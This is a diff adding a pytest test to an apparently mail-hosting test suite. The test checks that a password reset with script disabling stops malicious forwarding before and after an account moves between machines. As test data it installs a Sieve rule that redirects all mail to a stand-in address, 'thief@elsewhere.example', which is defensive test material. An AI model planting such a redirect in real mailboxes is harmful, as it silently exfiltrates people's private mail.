@@ -1,5 +1,7 @@
 """Accounts move from one machine to another under fire: nothing is lost, nothing is there twice."""
 
+from dataclasses import replace
+
 import pytest
 
 from tests.mail import clients
@@ -69,6 +71,28 @@ def test_everything_moves(cluster: Cluster, box: Mailbox) -> None:
         wait_for("the script", lambda: imap.select("Archive", readonly=True) == ("OK", [b"1"]))
     sql = "SELECT COUNT(*) FROM events WHERE account_id = :id AND type = 'account.moved'"
     assert box.platform.sql(sql, id=box.id) == [(1,)]
+
+
+def test_a_reset_that_stops_scripts_holds_on_every_machine(cluster: Cluster, box: Mailbox) -> None:
+    """Before a move and after it; each machine tells whether a script forwards, wherever the mailbox is."""
+    home, other = cluster.home(box), cluster.other(box)
+    usage = f"/v2/email-accounts/{box.id}/usage"
+    clients.put_script(
+        home.address, home.port("sieve_port"), box.address, box.password, b'redirect "thief@elsewhere.example";\n'
+    )
+    assert box.platform.call("GET", usage, None)["forwards_by_script"] is True
+    move(cluster, box, other)
+    assert box.platform.call("GET", usage, None)["forwards_by_script"] is True
+    reset = {"disable_scripts": True}
+    answer = box.platform.call("POST", f"/v2/email-accounts/{box.id}/password/reset", reset)
+    assert box.platform.call("GET", usage, None)["forwards_by_script"] is False
+    move(cluster, box, home)
+    assert box.platform.call("GET", usage, None)["forwards_by_script"] is False
+    clients.put_script(other.address, other.port("sieve_port"), box.address, answer["password"], b"keep;\n")
+    home.deliver(box, "kept")
+    box = replace(box, password=answer["password"])
+    with home.imap(box) as imap:
+        imap.wait_for("kept")
 
 
 def test_a_worker_that_is_killed(cluster: Cluster, box: Mailbox) -> None:
